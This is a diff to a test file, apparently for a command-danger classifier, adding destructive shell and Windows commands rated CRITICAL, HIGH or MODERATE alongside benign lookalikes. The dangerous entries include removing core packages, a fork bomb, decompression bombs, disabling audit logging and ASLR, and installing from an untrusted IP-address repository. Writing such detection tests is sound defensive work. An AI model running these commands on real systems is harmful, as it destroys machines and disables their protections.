@@ -907,12 +907,123 @@ SECOND_PACKAGES_BENIGN = [
     ("cargo search ripgrep", SAFE),
 ]
 
+# == a third pass, written before any rule for it was changed: other package managers and
+# front ends, Windows equivalents, decompression, and more ways to exhaust the machine.
+
+THIRD_DANGEROUS = [
+    ("sudo nala remove -y --purge systemd", CRITICAL),
+    ("sudo aptitude purge -y '~i'", CRITICAL),
+    ("sudo apt-get -o APT::Get::AllowUnauthenticated=1 -y install foo", HIGH),
+    ("sudo dnf5 remove -y glibc", CRITICAL),
+    ("sudo microdnf remove -y rpm", CRITICAL),
+    ("sudo pkcon remove -y systemd", CRITICAL),
+    ("sudo pkg delete -fy openssl", HIGH),
+    ("sudo pkg lock -y openssl", HIGH),
+    ("sudo xbps-install -Sy --ignore-conf-repos -R http://203.0.113.9/current foo", HIGH),
+    ("nix-env -e '.*'", HIGH),
+    ("sudo eopkg remove -y glibc", CRITICAL),
+    ("sudo swupd bundle-remove os-core", CRITICAL),
+    ("sudo apt-mark hold 'linux-image-*'", HIGH),
+    ("sudo yum versionlock add 'kernel*'", HIGH),
+    ("echo 'openssl' | sudo tee /etc/yum/pluginconf.d/versionlock.list", HIGH),
+    (
+        "printf 'Package: *\nPin: release *\nPin-Priority: -1\n' "
+        "| sudo tee /etc/apt/preferences.d/block",
+        HIGH,
+    ),
+    ("sudo rm -f /etc/apt/apt.conf.d/50unattended-upgrades", HIGH),
+    (
+        "sudo dpkg-reconfigure -f noninteractive unattended-upgrades && sudo apt-get purge -y unattended-upgrades",
+        HIGH,
+    ),
+    ("shutdown /r /t 0", HIGH),
+    ("shutdown.exe /s /f /t 0", HIGH),
+    ("Restart-Computer -Force", HIGH),
+    ("Stop-Computer -ComputerName srv01 -Force", HIGH),
+    ("bcdedit /set {current} safeboot minimal", HIGH),
+    ("bcdedit /set testsigning on", HIGH),
+    ("bcdedit /set {default} recoveryenabled no", HIGH),
+    ("bcdedit /delete {current}", CRITICAL),
+    ("wmic os where primary=true call reboot", HIGH),
+    ("Set-Service -Name wuauserv -StartupType Disabled", HIGH),
+    ("sc.exe config wuauserv start= disabled", HIGH),
+    ("Get-Process | Stop-Process -Force", HIGH),
+    ("for /l %i in (0,0,1) do start cmd", HIGH),
+    ("%0|%0", CRITICAL),
+    ("fsutil file createnew C:\\fill.bin 900000000000", HIGH),
+    (
+        "winget uninstall --id Microsoft.WindowsTerminal --force && winget uninstall Microsoft.PowerShell",
+        MODERATE,
+    ),
+    ("cat /dev/zero | gzip -1 | gunzip > /tmp/zeros", HIGH),
+    ("zcat /dev/zero > out", MODERATE),
+    ("yes | gzip > /tmp/y.gz", HIGH),
+    ("head -c 10G /dev/zero | gzip > ~/bomb.gz && zcat ~/bomb.gz > ~/big", HIGH),
+    (
+        'python3 -c \'import zlib; open("big", "wb").write(zlib.decompress(open("bomb", "rb").read()) * 10**9)\'',
+        HIGH,
+    ),
+    ("mkdir -p $(python3 -c 'print(\"a/\" * 100000)')", HIGH),
+    ("while true; do mkdir x && cd x; done", HIGH),
+    ("for i in $(seq 1 5000000); do ln -s /etc/passwd link$i; done", HIGH),
+    ("sudo sysctl -w kernel.pid_max=500 && ulimit -u unlimited", HIGH),
+    ("sudo sysctl -w vm.overcommit_memory=2 vm.overcommit_ratio=1", HIGH),
+    ("echo 1 | sudo tee /proc/sys/vm/panic_on_oom", HIGH),
+    ("echo 100 | sudo tee /proc/sys/fs/file-max", HIGH),
+    ("sudo sh -c 'echo 0 > /proc/sys/kernel/randomize_va_space'", HIGH),
+    ("sudo tee /proc/sys/kernel/yama/ptrace_scope <<< 0", HIGH),
+    ("sudo systemctl disable --now systemd-journald.socket", HIGH),
+    ("sudo systemctl mask --now auditd", HIGH),
+    ("sudo systemctl isolate runlevel0.target", HIGH),
+    ("sudo systemctl emergency", HIGH),
+    ("sudo systemctl rescue", HIGH),
+    ("ssh root@db1 'systemctl isolate rescue.target'", HIGH),
+    ("sudo halt", HIGH),
+    ("sudo /sbin/init 6", HIGH),
+    ("echo 'systemctl reboot' | at now + 1 minute", HIGH),
+]
+THIRD_BENIGN = [
+    ("nala list --installed", SAFE),
+    ("nala show openssl", SAFE),
+    ("sudo nala upgrade -y", MODERATE),
+    ("aptitude search '~i ssl'", SAFE),
+    ("dnf5 list --installed", SAFE),
+    ("pkcon get-updates", SAFE),
+    ("pkg info openssl", SAFE),
+    ("pkg audit -F", MODERATE),
+    ("xbps-query -l", SAFE),
+    ("nix-env -q", SAFE),
+    ("eopkg list-installed", SAFE),
+    ("swupd bundle-list", SAFE),
+    ("shutdown /a", MODERATE),
+    ("bcdedit /enum", SAFE),
+    ("Get-Service wuauserv", SAFE),
+    ("sc.exe query wuauserv", SAFE),
+    ("Get-Process | Sort-Object CPU -Descending | Select-Object -First 5", SAFE),
+    ("fsutil file createnew C:\\temp\\test.bin 1048576", MODERATE),
+    ("winget list --upgrade-available", SAFE),
+    ("gunzip -c access.log.gz | grep 500", SAFE),
+    ("gzip -t backup.tar.gz", SAFE),
+    ("zstd -d archive.zst -o archive.tar", MODERATE),
+    ("tar -tzf release.tar.gz | head", SAFE),
+    ("mkdir -p a/b/c", MODERATE),
+    ("ln -s /etc/hosts hosts.link", MODERATE),
+    ("cat /proc/sys/fs/file-max", SAFE),
+    ("sysctl vm.overcommit_memory", SAFE),
+    ("systemctl is-system-running", SAFE),
+    ("loginctl show-session", SAFE),
+    ("echo 'make backup' | at 23:00", MODERATE),
+    ("sudo systemctl restart systemd-journald", MODERATE),
+]
+
 DANGEROUS = POWER + UNITS + KERNEL + PROTECTIONS + FORKS + FILLERS + PACKAGES_REMOVED
 DANGEROUS += SOURCES + HOLDS
 BENIGN = POWER_BENIGN + UNITS_BENIGN + KERNEL_BENIGN + PROTECTIONS_BENIGN + FORKS_BENIGN
 BENIGN += FILLERS_BENIGN + PACKAGES_BENIGN
 DANGEROUS += SECOND_SYSTEM + SECOND_RESOURCES + SECOND_PACKAGES
 BENIGN += SECOND_SYSTEM_BENIGN + SECOND_RESOURCES_BENIGN + SECOND_PACKAGES_BENIGN
+DANGEROUS += THIRD_DANGEROUS
+BENIGN += THIRD_BENIGN
 
 
 @pytest.mark.parametrize(("command", "least"), DANGEROUS)
